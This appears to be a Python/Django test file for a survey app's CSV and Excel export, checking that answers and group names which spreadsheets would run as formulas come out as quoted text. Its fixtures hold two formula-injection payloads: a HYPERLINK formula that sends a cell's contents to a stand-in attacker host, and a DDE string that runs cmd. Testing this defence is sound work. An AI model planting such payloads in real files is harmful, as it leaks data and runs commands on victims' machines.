"""A round's answers as CSV and Excel: an answer or a name that a spreadsheet would run as a
formula (OWASP "CSV Injection") leaves as text."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from samensterk.test import BaseTestCase

from .factories import answer, monitoring_round

ATTACK = '=HYPERLINK("http://aanvaller.example/?"&D2,"Klik hier")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


class RoundExportTestCase(BaseTestCase):
    def setUp(self):
        self.round = monitoring_round(self.alfa, self.sanne, [self.group_a, self.group_b])
        invitation = self.round.invitations.get(group=self.group_a)
        invitation.name = NAME
        invitation.save(update_fields=["name"])
        answer(invitation, {"activiteit": 8, "gezelligheid": True, "themabijeenkomsten": False,
                            "belangenbehartiging": False, "tevreden_niet": True,
                            "signalen": False, "themas": ATTACK})  # fmt: skip
        self.login(self.sanne)

    def export(self, file_format: str) -> bytes:
        url = reverse("surveys:round_export", args=[self.round.pk, file_format])
        return self.client.get(url).content

    def test_the_csv_gives_answers_and_names_as_text(self):
        (row,) = csv.DictReader(io.StringIO(self.export("csv").decode()))
        self.assertEqual(row["themas"], "'" + ATTACK)
        self.assertEqual(row["naam"], "'" + NAME)
        self.assertEqual(row["activiteit"], "8")

    def test_the_xlsx_holds_answers_and_names_as_text_not_as_formulas(self):
        sheet = load_workbook(io.BytesIO(self.export("xlsx"))).worksheets[0]
        header, row = list(sheet.iter_rows())
        cells = {column.value: cell for column, cell in zip(header, row, strict=True)}
        for key, text in [("themas", ATTACK), ("naam", NAME)]:
            self.assertNotEqual(cells[key].data_type, "f")
            self.assertEqual(cells[key].value, "'" + text)
        self.assertEqual(cells["activiteit"].value, 8)
